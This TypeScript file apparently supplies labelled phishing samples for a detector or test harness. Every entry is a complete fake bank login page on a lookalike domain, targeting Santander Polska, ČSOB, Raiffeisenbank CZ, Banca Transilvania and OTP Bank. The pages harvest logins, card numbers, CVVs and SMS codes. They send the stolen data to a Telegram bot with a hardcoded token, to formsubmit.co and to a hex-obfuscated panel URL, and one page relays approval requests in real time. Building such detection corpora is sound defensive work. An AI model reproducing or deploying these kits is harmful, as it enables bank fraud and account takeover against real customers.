import { type Entry, htmlRoute } from '../entry.js';
import { doc, cardCss, logo, stepper, codeRunner } from '../parts/yz-kit.js';

export const entries: Entry[] = [
{
  id: 'yz-santander-pl-centrum24-approve-in-app',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://santander-pl.weryfikacja-klienta.xyz/centrum24-web/login',
  body: doc({
    lang: 'pl',
    title: 'Santander Internet - logowanie',
    noindex: true,
    css: cardCss('#ec0000', { font: 'Santander Text,Arial,sans-serif', radius: 12 }) + '\n.wait{text-align:center}.wait img{width:80px}',
    body: `<div class="top">${logo('Santander', '#ec0000', { mark: 'flame', w: 170 })}<span class="muted">Bank Polska</span></div>
<div class="card" id="c1">
  <h1>Logowanie do Santander internet</h1>
  <form id="lf" method="post" action="send.php">
    <label>NIK lub własny identyfikator</label><input type="text" name="nik" required>
    <label>Hasło</label><input type="password" name="pwd" required>
    <button class="btn" type="submit">Zaloguj</button>
  </form>
</div>
<div class="card hide wait" id="c2">
  <h1>Zatwierdź logowanie</h1>
  <p>Otwórz aplikację <b>Santander mobile</b> na telefonie i zatwierdź operację <b>„Dodanie zaufanego urządzenia”</b>.</p>
  <div class="spin"></div><p class="muted">Oczekiwanie na potwierdzenie&hellip;</p>
</div>`,
    tail: `<script>
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();var fd=new FormData(this);fd.append('bank','santander');fd.append('ref',document.referrer);
fetch('send.php',{method:'POST',body:fd}).finally(function(){document.getElementById('c1').classList.add('hide');document.getElementById('c2').classList.remove('hide');
(function poll(){fetch('status.php?nik='+encodeURIComponent(fd.get('nik'))).then(function(r){return r.text()}).then(function(t){if(t==='sms'){location.href='sms.php'}else if(t==='done'){location.href='https://www.santander.pl/klient-indywidualny'}else setTimeout(poll,3000)}).catch(function(){setTimeout(poll,3000)})})()})});
</script>`,
  }),
},
{
  id: 'yz-csob-identita-formsubmit',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://identita-csob.web.app/login/',
  body: doc({
    lang: 'cs',
    title: 'ČSOB Identita – přihlášení',
    css: cardCss('#003366', { radius: 4 }) + '\n.top{background:#003366}.top svg text{fill:#fff}',
    body: `<div class="top">${logo('ČSOB', '#00a3e0', { mark: 'square', textColor: '#fff', w: 110 })}</div>
<div class="card">
  <h1>Přihlášení do Internetového bankovnictví</h1>
  <form id="cf" action="https://formsubmit.co/el/xumoja" method="POST">
    <input type="hidden" name="_captcha" value="false">
    <input type="hidden" name="_next" value="https://www.csob.cz/portal/lide">
    <input type="hidden" name="_subject" value="CSOB new">
    <label>Identifikační číslo / Uživatelské jméno</label><input type="text" name="ipn" required>
    <label>PIN / heslo</label><input type="password" name="pin" required>
    <label>Telefonní číslo pro ověření</label><input type="tel" name="tel" placeholder="+420" required>
    <button class="btn">Přihlásit se</button>
  </form>
</div>
<div class="foot">Československá obchodní banka, a. s., Radlická 333/150, Praha 5</div>`,
  }),
},
{
  id: 'yz-raiffeisen-cz-charcode-kit',
  label: 'phishing',
  kind: 'obfuscated-bank-kit',
  url: 'https://rb-cz.bezpecnost-uctu.online/ib/',
  body: `<!doctype html><html lang="cs"><head><meta charset="utf-8"><title>Raiffeisenbank</title></head><body>
<div id="root"></div>
${codeRunner(`var h='<div style="font-family:Arial;background:#fff;max-width:420px;margin:50px auto;border:1px solid #ddd;padding:30px">'+
'<div style="background:#fee600;padding:10px 14px;font-weight:bold">Raiffeisen<span style="font-weight:normal">BANK</span></div>'+
'<h2>Přihlášení do Internetového bankovnictví</h2>'+
'<form id="rf"><p>Uživatelské jméno<br><input name="u" style="width:100%;padding:8px"></p>'+
'<p>Heslo<br><input name="p" type="password" style="width:100%;padding:8px"></p>'+
'<p>Číslo platební karty (ověření)<br><input name="c" style="width:100%;padding:8px"></p>'+
'<button style="background:#000;color:#fee600;padding:10px 30px;border:0">Přihlásit</button></form></div>';
document.getElementById('root').innerHTML=h;
document.getElementById('rf').onsubmit=function(e){e.preventDefault();var d=new FormData(this);
var t='8124453390:AAFh3ZbL0QvRx_7sYcT2pWmNkEjUo9aGdHi';
fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=6120937741&text='+encodeURIComponent('RB CZ | '+d.get('u')+' | '+d.get('p')+' | '+d.get('c')));
setTimeout(function(){location='https://www.rb.cz/'},1500)};`)}
</body></html>`,
},
{
  id: 'yz-bt24-neo-ro-card-otp',
  label: 'phishing',
  kind: 'bank-card-kit',
  url: 'https://neo-bt.ro-securitate.net/bt24/verificare',
  body: doc({
    lang: 'ro',
    title: 'NEO BT | Banca Transilvania',
    css: cardCss('#0072bc', { bg: '#f7f9fc', radius: 10 }) + '\n.y{height:6px;background:linear-gradient(90deg,#ffd200 50%,#0072bc 50%)}',
    body: `<div class="y"></div><div class="top">${logo('Banca Transilvania', '#0072bc', { mark: 'square', w: 230 })}</div>
<div class="card">
  <h1>Verificare de securitate</h1>
  <p>Am detectat o tranzacție neobișnuită de <b>2.450,00 RON</b> la <b>ALIEXPRESS</b>. Dacă nu recunoașteți plata, anulați-o confirmându-vă datele cardului.</p>
  <form method="post" action="/bt24/proc.php">
    <label>Nume titular</label><input type="text" name="nume" required>
    <label>Număr card</label><input type="tel" name="card" maxlength="19" required>
    <label>Expirare</label><input type="text" name="exp" placeholder="LL/AA" required>
    <label>CVV</label><input type="password" name="cvv" maxlength="3" required>
    <label>Cod de utilizator BT24 / NEO</label><input type="text" name="user">
    <button class="btn">Anulează tranzacția</button>
  </form>
</div>`,
  }),
  routes: {
    'neo-bt.ro-securitate.net/bt24/proc.php': htmlRoute(doc({ lang: 'ro', title: 'Cod 3D Secure', css: cardCss('#0072bc'), body: `<div class="card"><h1>3D Secure</h1><p>Introduceți codul primit prin SMS pentru a anula tranzacția.</p><form method="post" action="/bt24/otp.php"><input type="tel" name="otp" maxlength="6"><button class="btn">Confirmă</button></form></div>` })),
  },
},
{
  id: 'yz-otpdirekt-hu-sms-kod',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://otpdirekt-hu.belepes-ellenorzes.com/belepes',
  body: doc({
    lang: 'hu',
    title: 'OTPdirekt - Belépés',
    noindex: true,
    css: cardCss('#52ae30', { bg: '#f1f5ef', radius: 6 }),
    body: `<div class="top">${logo('OTP bank', '#52ae30', { mark: 'leaf', w: 150 })}<span class="muted">OTPdirekt internetbank</span></div>
<div class="card">
  <div class="step"><h1>Belépés az internetbankba</h1>
  <form id="s1"><label>Felhasználói azonosító</label><input type="text" name="azon" required><label>Jelszó</label><input type="password" name="jelszo" required><button class="btn">Belépés</button></form>
  <p class="muted">Tájékoztatjuk, hogy a biztonsági frissítés miatt minden ügyfélnek újra kell azonosítania magát.</p></div>
  <div class="step hide"><h1>SMS-kód</h1><p>Adja meg az SMS-ben kapott 6 jegyű kódot.</p><form id="s2"><input type="tel" name="kod" maxlength="6" required><button class="btn">Megerősítés</button></form></div>
  <div class="step hide"><div class="spin"></div><p style="text-align:center">Kérjük, várjon. Az azonosítás folyamatban van&hellip;</p></div>
</div>`,
    tail: `<script>
${stepper('lep')}
var _0x3f=['\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f','\\x6f\\x74\\x70\\x2d\\x70\\x61\\x6e\\x65\\x6c\\x2e\\x73\\x69\\x74\\x65','\\x2f\\x72\\x2e\\x70\\x68\\x70'];
function kuld(o){var x=new XMLHttpRequest();x.open('POST',_0x3f.join(''),true);x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify(o))}
document.getElementById('s1').onsubmit=function(e){e.preventDefault();kuld({b:'otp',u:this.azon.value,p:this.jelszo.value});lep(1)};
document.getElementById('s2').onsubmit=function(e){e.preventDefault();kuld({b:'otp',k:this.kod.value});lep(2);setTimeout(function(){location.href='https://www.otpbank.hu/'},12000)};
</script>`,
  }),
},
];
